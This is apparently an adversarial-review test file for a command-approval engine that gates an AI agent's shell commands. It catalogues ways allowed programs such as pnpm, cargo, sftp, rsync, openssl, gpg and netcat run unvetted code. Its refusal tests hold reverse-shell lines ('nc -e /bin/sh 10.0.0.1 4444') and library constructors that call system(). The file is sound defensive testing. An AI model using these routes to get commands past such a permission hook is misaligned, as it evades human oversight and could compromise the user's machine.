package rules

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// Review round 27 (adversarial review of the worktree adv1, at cce256e):
// programs whose commands fall back to running a program the line names,
// and the options of known programs that name a program or a file.

// TestRound27PnpmFallbackExec: pnpm NAME, where NAME is none of pnpm's
// commands, runs the package's script NAME, and when the package has no
// such script it runs NAME itself, as pnpm exec would (pnpm's run
// handler, fallbackCommandUsed): "pnpm touch PWNED" runs touch, "pnpm
// ./pwn" runs ./pwn. The engine refused the word exec but vouched for
// the same program under the fallback. pnpm reads its options before the
// command, and one that takes a value takes the next word, which the
// fallback then runs: "pnpm --loglevel install touch x" runs
// /usr/bin/install (pnpm sees the command touch, and exec's arguments
// start at the first word that is no option). pnpm run NAME and a
// recursive run (-r, --filter) run scripts only ("None of the selected
// packages has a touch script"). Demonstrated with pnpm 9.15.9 (not
// installed here: the runs below are logged as missing where it is not).
func TestRound27PnpmFallbackExec(t *testing.T) {
	round18Check(t, round18ReadOnly, []round18Case{
		{line: "pnpm touch ../PWNED", files: round18With(map[string]string{"m/package.json": `{"name":"m","version":"1.0.0"}`}), made: "PWNED"},
		{line: "pnpm ../pwn", files: round18With(map[string]string{"m/package.json": `{"name":"m","version":"1.0.0"}`}), made: "PWNED"},
	})
	p := mustParse(t, round18ReadOnly)
	for _, line := range []string{
		"pnpm touch PWNED", "pnpm ./pwn", "pnpm --silent touch PWNED", "pnpm -- touch PWNED",
		"pnpm --loglevel install touch PWNED", "pnpm --reporter silent rm -rf x", "pnpm -w touch PWNED",
		"pnpm -r --no-recursive touch PWNED", "pnpm --recursive=false touch PWNED", "pnpm --color ./pwn",
		"pnpm stop", "pnpm -C . touch PWNED", "pnpm --foo install touch PWNED",
	} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; pnpm runs the program the line names when the package has no such script", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "pnpm's own commands, and scripts through run or a recursive run",
		"pnpm install --frozen-lockfile", "pnpm -r build", "pnpm test --filter web", "pnpm run lint", "pnpm --filter web build",
		"pnpm -C packages/a run build", "pnpm --loglevel warn install", "pnpm start", "pnpm ls --depth 0", "pnpm why react",
		"pnpm recursive run build", "pnpm add -D typescript", "pnpm view react version", "pnpm --filter=web test")
}

// TestRound27UmaskChangesLaterWrites: umask is a builtin that changes the
// shell, as ulimit (which shellStateBuiltins refuses) does: after umask 0
// every file a later command of the line makes, a vouched redirection
// included, is writable by any user on the machine (mode 666, a
// directory 777), where the user's umask (022) would keep it theirs. The
// engine vouched for ["umask" "0"] as a command like any other. umask
// alone, -p and -S print the mask and change nothing. Demonstrated with
// bash 5.2.
func TestRound27UmaskChangesLaterWrites(t *testing.T) {
	work := t.TempDir()
	out := bashIn(t, "umask 022; umask 0 && echo hi > notes.txt && mkdir d && stat -c %a notes.txt d", work, []string{"PATH=/usr/bin:/bin", "LANG=C"})
	if out != "666\n777" {
		t.Errorf("under bash, umask 0 made files of modes %q, want 666 and 777: the demonstration failed", out)
	}
	p := mustParse(t, `
[[rule]]
name = "anything-in-work"
decision = "accept"
allow_redirects = true
[rule.match]
hook_kind = "command"
cwd_prefix = "/work"
`)
	for _, line := range []string{"umask 0 && echo hi > notes.txt", "umask 000; mkdir d", "umask -- 0", "umask -S 0", "umask a+w",
		"sh -c 'umask 0; touch x'", "command umask 0"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; umask sets the mode of the files later commands make", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "umask alone, -p and -S print the mask", "umask", "umask -p", "umask -S", "echo hi > notes.txt")
}

// TestRound27CargoExternalSubcommand: cargo NAME, where NAME is none of
// cargo's commands, runs cargo-NAME, found in ~/.cargo/bin or on PATH
// (an external subcommand), and cargo help NAME runs cargo-NAME --help:
// a program the line does not name, as kubectl NAME runs kubectl-NAME
// (round 18) and git NAME git-NAME, which the engine refuses. cargo's
// options before the command, and a "--", do not change that (cargo -q
// --color never pwn, cargo -- pwn), nor options after help (cargo help
// -- pwn). Demonstrated with cargo 1.95 and a
// cargo-pwn first on PATH.
func TestRound27CargoExternalSubcommand(t *testing.T) {
	if _, err := exec.LookPath("cargo"); err == nil {
		work := t.TempDir()
		bin := filepath.Join(work, "bin")
		if err := os.Mkdir(bin, 0o755); err != nil {
			t.Fatal(err)
		}
		pwn := "#!/bin/sh\necho \"$@\" >> " + filepath.Join(work, "PWNED") + "\n"
		if err := os.WriteFile(filepath.Join(bin, "cargo-pwn"), []byte(pwn), 0o755); err != nil {
			t.Fatal(err)
		}
		env := []string{"PATH=" + bin + ":" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME"), "LANG=C"}
		for _, k := range []string{"CARGO_HOME", "RUSTUP_HOME"} {
			if v := os.Getenv(k); v != "" {
				env = append(env, k+"="+v)
			}
		}
		bashIn(t, "cargo pwn a; cargo help pwn; cargo -q --color never pwn b; cargo -- pwn c; cargo help -- pwn", work, env)
		got, _ := os.ReadFile(filepath.Join(work, "PWNED"))
		if string(got) != "pwn a\npwn --help\npwn b\npwn c\npwn --help\n" {
			t.Errorf("cargo-pwn ran with %q, want five runs: the demonstration failed", got)
		}
	} else {
		t.Log("cargo is not installed: no demonstration")
	}
	p := mustParse(t, round18ReadOnly)
	for _, line := range []string{"cargo pwn", "cargo help pwn", "cargo help -- pwn", "cargo help -q pwn", "cargo -q help pwn", "cargo -q --color never pwn", "cargo -- pwn", "cargo +nightly pwn",
		"cargo -v pwn", "cargo --offline --locked pwn", "cargo -Zunstable-options pwn", "cargo -Z unstable-options pwn", "cargo --color=never pwn"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; cargo runs cargo-pwn from PATH", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "cargo's own commands and rustup's components",
		"cargo build --release", "cargo test -- --nocapture", "cargo clippy --all-targets -- -D warnings", "cargo fmt --check",
		"cargo run --bin tool -- --help", "cargo +nightly metadata", "cargo -q t", "cargo --color never tree", "cargo --version",
		"cargo help build", "cargo help", "cargo --list", "cargo b", "cargo -Z unstable-options check")
}

// TestRound27SftpBatchRunsLocalCommands: sftp -b FILE reads its commands
// from FILE (-b - from stdin: the line's here-document), and a command
// !COMMAND runs COMMAND in a local shell (lcd and get write where they
// say). known.go refused sftp's -o, -S, -F, -J and -D, not -b: a rule
// that accepts sftp to fetch files accepted "sftp -b batch host". The
// demonstration connects to a local sftp-server with -D (which the
// engine refuses for its own reason) where it is installed; with a host
// the batch runs the same once ssh has connected.
func TestRound27SftpBatchRunsLocalCommands(t *testing.T) {
	server := "/usr/lib/openssh/sftp-server"
	if _, err := os.Stat(server); err == nil {
		work := t.TempDir()
		if err := os.WriteFile(filepath.Join(work, "batch"), []byte("!touch PWNED\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		out := bashIn(t, "sftp -D "+server+" -b batch", work, []string{"PATH=/usr/bin:/bin", "HOME=" + work, "LANG=C"})
		if _, err := os.Stat(filepath.Join(work, "PWNED")); err != nil {
			t.Errorf("sftp -b batch ran no !touch PWNED (output %q): the demonstration failed", out)
		}
	} else {
		t.Logf("%s is not installed: no demonstration", server)
	}
	p := mustParse(t, `
[[rule]]
name = "sftp"
decision = "accept"
[rule.match]
program = "sftp"
`)
	for _, line := range []string{"sftp -b batch host", "sftp -b - host <<'EOF'\n!touch PWNED\nEOF", "sftp -qb batch host", "sftp -P 22 -b batch host", "sftp -bbatch host"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; the batch's !COMMAND runs a local shell command", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	// sftp host:notes.txt and sftp -r host:dir read commands from stdin
	// when the path is a directory (round 29): only a fetch into a local
	// path is vouched.
	wantAccepted(t, p, "sftp fetching a file", "sftp host:notes.txt notes.txt", "sftp -P 2222 -q user@host:dir/file.txt .", "sftp -r host:dir local")
}

// TestRound27Wget2Plugins: wget2 (which known.go reads as wget) loads a
// plugin, a shared library, from the path --local-plugin names or by
// name (--plugin NAME: libNAME.so) from the directories --plugin-dirs
// names; the library's code runs in wget2 when it loads, before any
// download (a constructor, or wget_plugin_initializer). known.go knew
// wget's --use-askpass, -e and --config only. Demonstrated with wget2
// 1.99 and a library built with cc, where both are installed.
func TestRound27Wget2Plugins(t *testing.T) {
	_, noWget2 := exec.LookPath("wget2")
	_, noCC := exec.LookPath("cc")
	if noWget2 == nil && noCC == nil {
		work := t.TempDir()
		src := "#include <stdlib.h>\n__attribute__((constructor)) static void c(void) { system(\"touch PWNED\"); }\nint wget_plugin_initializer(void *p) { return 0; }\n"
		if err := os.WriteFile(filepath.Join(work, "p.c"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		env := []string{"PATH=/usr/bin:/bin", "HOME=" + work, "LANG=C"}
		bashIn(t, "cc -shared -fPIC -o libp.so p.c", work, env)
		for _, line := range []string{"wget2 -q --tries=1 --local-plugin=./libp.so http://127.0.0.1:9/", "wget2 -q --tries=1 --plugin-dirs=. --plugin=p http://127.0.0.1:9/"} {
			_ = os.Remove(filepath.Join(work, "PWNED"))
			out := bashIn(t, "timeout 20 "+line, work, env)
			if _, err := os.Stat(filepath.Join(work, "PWNED")); err != nil {
				t.Errorf("%q ran no plugin code (output %q): the demonstration failed", line, out)
			}
		}
	} else {
		t.Log("wget2 or cc is not installed: no demonstration")
	}
	p := mustParse(t, `
[[rule]]
name = "fetch"
decision = "accept"
[rule.match]
program = ["wget", "wget2"]
`)
	for _, line := range []string{"wget2 --local-plugin=./libp.so https://example.com/", "wget2 --local-plugin ./libp.so https://example.com/",
		"wget2 --plugin-dirs=. --plugin=p https://example.com/", "wget2 --plugin p https://example.com/"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; wget2 runs the plugin's code", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "a download", "wget2 -q https://example.com/x.tar.gz", "wget2 --list-plugins", "wget -q https://example.com/x")
}

// TestRound27RsyncRemoteShell: rsync -e PROGRAM (--rsh=PROGRAM, in a
// cluster too: -ave) runs PROGRAM to reach the host of a HOST:PATH
// operand, here, before any transfer: "rsync -e ./pwn x h:y" runs
// "./pwn h rsync --server …". --rsync-path is the command the remote
// shell runs on the host (a shell command, as ssh's, which the engine
// refuses), and --daemon starts rsync's server, whose --config file
// names programs it runs (pre-xfer exec). known.go knew nothing of
// rsync. Demonstrated with rsync 3.5 where it is installed.
func TestRound27RsyncRemoteShell(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "sync"
decision = "accept"
[rule.match]
program = "rsync"
`)
	for _, line := range []string{"rsync -e ../pwn x h:y", "rsync -ave ../pwn x h:y", "rsync --rsh=../pwn x h:y", "rsync --rsh ../pwn x h:y"} {
		if _, err := exec.LookPath("rsync"); err == nil {
			round18Run(t, round18Case{line: line, files: round18Module, made: "PWNED"})
		}
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; rsync runs ../pwn to reach the host", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	for _, line := range []string{"rsync --rsync-path='touch x; rsync' a h:b", "rsync --daemon --config=./rsyncd.conf", "rsync -e 'ssh -o ProxyCommand=x' a h:b"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; it names a program rsync runs", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "a copy", "rsync -a src/ dst/", "rsync -avz --delete build/ out/", "rsync -a --exclude .git src/ backup/", "rsync -n -a a/ b/")
}

// TestRound27OpensslLoadsLibraries: openssl x509 -noout -text reads a
// certificate, and a rule may accept it as reading. But -engine ID loads
// the engine ID, and an ID that is a path is a shared library openssl
// loads with dlopen (its constructor runs, before openssl finds no
// engine in it); -provider NAME loads a provider module, from
// -provider-path's directory; -config names a configuration whose
// sections load both. known.go knew nothing of openssl. Demonstrated
// with OpenSSL 3.0 and a library built with cc, where both are installed.
func TestRound27OpensslLoadsLibraries(t *testing.T) {
	cert := "/etc/ssl/certs/ca-certificates.crt"
	_, noSSL := exec.LookPath("openssl")
	_, noCC := exec.LookPath("cc")
	_, noCert := os.Stat(cert)
	if noSSL == nil && noCC == nil && noCert == nil {
		work := t.TempDir()
		src := "#include <stdlib.h>\n__attribute__((constructor)) static void c(void) { system(\"touch PWNED\"); }\n"
		if err := os.WriteFile(filepath.Join(work, "p.c"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		env := []string{"PATH=/usr/bin:/bin", "HOME=" + work, "LANG=C"}
		bashIn(t, "cc -shared -fPIC -o libp.so p.c", work, env)
		for _, line := range []string{"openssl x509 -engine ./libp.so -noout -subject -in " + cert,
			"openssl x509 -provider-path . -provider libp -noout -subject -in " + cert} {
			_ = os.Remove(filepath.Join(work, "PWNED"))
			out := bashIn(t, line, work, env)
			if _, err := os.Stat(filepath.Join(work, "PWNED")); err != nil {
				t.Errorf("%q ran no library code (output %q): the demonstration failed", line, out)
			}
		}
	} else {
		t.Log("openssl, cc or the certificates are not installed: no demonstration")
	}
	p := mustParse(t, prefixRule("openssl", "x509"))
	for _, line := range []string{"openssl x509 -engine ./libp.so -noout -in cert.pem", "openssl x509 --engine=./libp.so -noout -in cert.pem",
		"openssl x509 -provider-path . -provider libp -noout -in cert.pem", "openssl x509 -noout -in cert.pem -config ./x.cnf",
		"openssl x509 -noout -in cert.pem -ssl_client_engine ./libp.so"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; openssl runs the library's code", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	if v, ok := acceptedBy(t, mustParse(t, prefixRule("openssl")), "openssl engine -pre SO_PATH:./libp.so -pre LOAD dynamic"); ok {
		t.Errorf("openssl engine -pre: accepted by rule %q; it loads the library", v.Rule)
	}
	wantAccepted(t, p, "it reads a certificate", "openssl x509 -noout -text -in cert.pem", "openssl x509 -in cert.pem -noout -subject -dates -fingerprint -sha256")
}

// TestRound27FdExec: fd (fdfind on Debian), the find that people allow
// as reading, runs a command for each file it finds with -x/--exec
// (every word after it, up to a ";", is the command) and one for all of
// them with -X/--exec-batch, in a cluster too (-Hx). known.go refuses
// find's -exec but knew nothing of fd. Demonstrated with fd 8.6 where it
// is installed.
func TestRound27FdExec(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "read-only-tools"
decision = "accept"
[rule.match]
program = ["ls", "cat", "find", "fd", "fdfind"]
`)
	for _, fd := range []string{"fd", "fdfind"} {
		if _, err := exec.LookPath(fd); err == nil {
			for _, line := range []string{fd + " -X touch ../PWNED", fd + " -Hx touch ../PWNED", fd + " x --exec-batch touch ../PWNED"} {
				round18Run(t, round18Case{line: line, files: round18Module, made: "PWNED"})
			}
		}
		for _, line := range []string{fd + " -x touch PWNED", fd + " -X rm -rf", fd + " -Hx sh -c id", fd + " --exec touch x", fd + " --exec=touch x",
			fd + " -e go --exec-batch gofmt -w", fd + " --exec-b rm"} {
			if v, ok := acceptedBy(t, p, line); ok {
				t.Errorf("%q: accepted by rule %q as %q; fd runs the command", line, v.Rule, commandsOf(v.Analysis))
			}
		}
		wantAccepted(t, p, "fd lists files", fd+" -e go", fd+" -H -t f config", fd+" --hidden --exclude .git main")
	}
}

// TestRound27BatPager: bat (batcat on Debian), the cat people allow as
// reading, pipes its output to the pager --pager names (a command line
// it splits into words) when its output is a terminal, as codex's
// commands have, or with --paging=always. known.go knew nothing of bat.
// Demonstrated with bat 0.22 where it is installed.
func TestRound27BatPager(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "read-only-tools"
decision = "accept"
[rule.match]
program = ["ls", "cat", "bat", "batcat"]
`)
	for _, bat := range []string{"bat", "batcat"} {
		if _, err := exec.LookPath(bat); err == nil {
			round18Run(t, round18Case{line: bat + " --paging=always --pager='touch ../PWNED' x", files: round18Module, made: "PWNED"})
		}
		for _, line := range []string{bat + " --paging=always --pager='touch PWNED' x", bat + " --pager ./pwn x", bat + " --pag=./pwn x"} {
			if v, ok := acceptedBy(t, p, line); ok {
				t.Errorf("%q: accepted by rule %q as %q; bat runs the pager", line, v.Rule, commandsOf(v.Analysis))
			}
		}
		wantAccepted(t, p, "bat prints files", bat+" README.md", bat+" -n --paging=never main.go", bat+" -p -l json x")
	}
}

// TestRound27RustupRun: rustup run TOOLCHAIN COMMAND runs COMMAND (with
// the toolchain's bin first on PATH), any program the line names, as
// npm exec does; rustup toolchain link NAME DIR makes DIR a toolchain,
// whose bin/cargo a later cargo +NAME runs (as a kubeconfig's
// credential plugin, round 20); and rustup, as cargo (round 25), takes
// +DIR, a toolchain path. known.go knew nothing of rustup. Demonstrated
// with rustup 1.29 where it is installed.
func TestRound27RustupRun(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "toolchains"
decision = "accept"
[rule.match]
program = ["rustup", "cargo"]
`)
	if _, err := exec.LookPath("rustup"); err == nil {
		round18Run(t, round18Case{line: "rustup run stable touch ../PWNED", files: round18Module, made: "PWNED"})
	}
	for _, line := range []string{"rustup run stable touch PWNED", "rustup run nightly ./pwn", "rustup -q run stable sh -c id",
		"rustup toolchain link evil ./tc", "rustup +/work/tc show"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; rustup runs a program the line names", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "rustup manages its toolchains", "rustup show", "rustup component add clippy", "rustup target list --installed",
		"rustup toolchain list", "rustup +nightly show", "rustup which cargo", "rustup update stable")
}

// TestRound27GpgAgentProgram: gpg --verify and gpg --list-keys read, and
// a rule may accept gpg as reading; but gpg starts the program
// --agent-program names when an operation needs the agent (--card-status,
// a passphrase, a secret key), and --dirmngr-program's for the keyserver
// (--recv-keys), reads an options file naming them (--options, and the
// gpg.conf of a --homedir, whose gpg-agent.conf names the pinentry), and
// runs --photo-viewer; GnuPG takes any unambiguous abbreviation
// (--agent-prog). known.go knew nothing of gpg. Demonstrated with GnuPG
// 2.2 where it is installed.
func TestRound27GpgAgentProgram(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "verify"
decision = "accept"
[rule.match]
program = ["gpg", "gpg2"]
`)
	if _, err := exec.LookPath("gpg"); err == nil {
		for _, line := range []string{"gpg --homedir WORK/h --agent-program ../pwn --card-status", "gpg --homedir WORK/h --dirmngr-program ../pwn --recv-keys 0x12345678ABCDEF00",
			"gpg --homedir WORK/h --agent-prog ../pwn --card-status"} {
			round18Run(t, round18Case{line: line, files: round18With(map[string]string{"h/.keep": ""}), made: "PWNED"})
		}
	}
	for _, line := range []string{"gpg --agent-program ./pwn --card-status", "gpg --dirmngr-program=./pwn --recv-keys 0x1234", "gpg --agent-prog ./pwn -K",
		"gpg --homedir ./h --card-status", "gpg --options ./opts --list-keys", "gpg --photo-viewer ./pwn --list-options show-photos -k", "gpg2 --exec-path . -k"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; gpg runs the program", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "gpg verifies and lists", "gpg --verify x.sig x", "gpg --list-keys", "gpg --batch --verify SHA256SUMS.asc SHA256SUMS", "gpg -k --with-colons")
}

// TestRound27NetcatExec: nc checks a port (nc -z host 80), and a rule
// may accept it; but netcat-traditional's -e PROGRAM and -c COMMAND run
// a program with the connection as its stdin and stdout (ncat's -e,
// -c/--sh-exec and --lua-exec too), as soon as it connects or accepts a
// connection, and -o FILE (ncat's --output, -x) writes the session into
// FILE. known.go knew nothing of netcat. Demonstrated with
// netcat-traditional 1.10 and ncat 7.93, where they are installed, each
// connecting to a listener of its own.
func TestRound27NetcatExec(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "net"
decision = "accept"
[rule.match]
program = ["nc", "netcat", "nc.traditional", "ncat"]
`)
	for _, c := range []struct{ nc, listen, line string }{
		{"nc.traditional", "nc.traditional -l -p 47123 -q 0", "nc.traditional -q 0 -c 'touch PWNED' 127.0.0.1 47123"},
		{"ncat", "ncat -l 47124", "ncat --sh-exec 'touch PWNED' 127.0.0.1 47124"},
	} {
		if _, err := exec.LookPath(c.nc); err != nil {
			t.Logf("%s is not installed: no demonstration", c.nc)
			continue
		}
		work := t.TempDir()
		out := bashIn(t, "timeout 10 "+c.listen+" </dev/null >/dev/null & sleep 0.5; timeout 5 "+c.line+"; wait", work, []string{"PATH=/usr/bin:/bin", "LANG=C"})
		if _, err := os.Stat(filepath.Join(work, "PWNED")); err != nil {
			t.Errorf("%q made no PWNED (output %q): the demonstration failed", c.line, out)
		}
	}
	for _, line := range []string{"nc -c 'touch PWNED' 127.0.0.1 80", "nc -e /bin/sh 10.0.0.1 4444", "nc -lvp 4444 -e /bin/sh", "nc -vc id h 1",
		"ncat --sh-exec 'touch PWNED' h 1", "ncat --exec /bin/sh h 1", "ncat --lua-exec x.lua h 1", "ncat -o log h 1", "ncat -x dump h 1",
		"nc -o dump h 80", "netcat -e /bin/sh h 1"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; netcat runs the program or writes the file", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "nc checks a port", "nc -z localhost 8080", "nc -zv -w 3 example.com 443", "ncat -z 127.0.0.1 5432", "nc -l -p 9000")
}

// TestRound27IpNetnsExec: ip addr and ip route read, and a rule may
// accept ip; but ip netns exec NAME COMMAND (and ip vrf exec) runs
// COMMAND in the named network namespace, and ip -batch FILE (-b, any
// prefix of -batch, one dash or two) runs the ip commands of FILE (or
// stdin, -b -), exec among them. known.go knew nothing of ip.
// Demonstrated by hand with iproute2 6.1 as root (ip netns add x; ip
// netns exec x touch PWNED; ip -batch FILE with a netns exec line): the
// test makes no network namespace, which would change the machine and
// collide between test processes.
func TestRound27IpNetnsExec(t *testing.T) {
	p := mustParse(t, `
[[rule]]
name = "net"
decision = "accept"
[rule.match]
program = "ip"
`)
	for _, line := range []string{"ip netns exec x touch PWNED", "ip vrf exec x touch PWNED", "ip -batch cmds", "ip -b cmds", "ip --ba cmds",
		"ip -force -batch - <<'EOF'\nnetns exec x touch PWNED\nEOF", "ip -n x netns exec y id"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; ip runs the command", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "ip shows the network", "ip addr", "ip -br a", "ip -4 route show", "ip -j link", "ip netns list")
}

// TestRound27MoreProgramsThatRunTheirArguments: otherWrappers refuses
// sudo, doas, su, pkexec, systemd-run and npx by name, but not systemd
// 256's run0 (run0 COMMAND runs COMMAND as root through systemd-run),
// Kerberos' ksu, the desktop's gksu, gksudo, kdesu, kdesudo and beesu,
// flatpak-spawn --host and host-spawn (COMMAND on the host, outside a
// flatpak or toolbox sandbox), distrobox-enter and distrobox-host-exec,
// or uv's uvx (uv tool run: a package's program, as npx). A rule with no
// command condition vouched for any of them running touch. None is
// installed here; each runs its arguments as its documentation says.
func TestRound27MoreProgramsThatRunTheirArguments(t *testing.T) {
	p := anythingInWork(t, false)
	for _, line := range []string{"run0 touch PWNED", "ksu -e /usr/bin/touch PWNED", "gksu touch PWNED", "gksudo touch PWNED", "kdesu touch PWNED",
		"kdesudo touch PWNED", "beesu touch PWNED", "flatpak-spawn --host touch PWNED", "host-spawn touch PWNED",
		"distrobox-enter box -- touch PWNED", "distrobox-host-exec touch PWNED", "uvx cowsay", "timeout 5 run0 id"} {
		if v, ok := acceptedBy(t, p, line); ok {
			t.Errorf("%q: accepted by rule %q as %q; it runs its arguments as a program", line, v.Rule, commandsOf(v.Analysis))
		}
	}
	wantAccepted(t, p, "plain commands", "ls", "touch notes.txt")
}
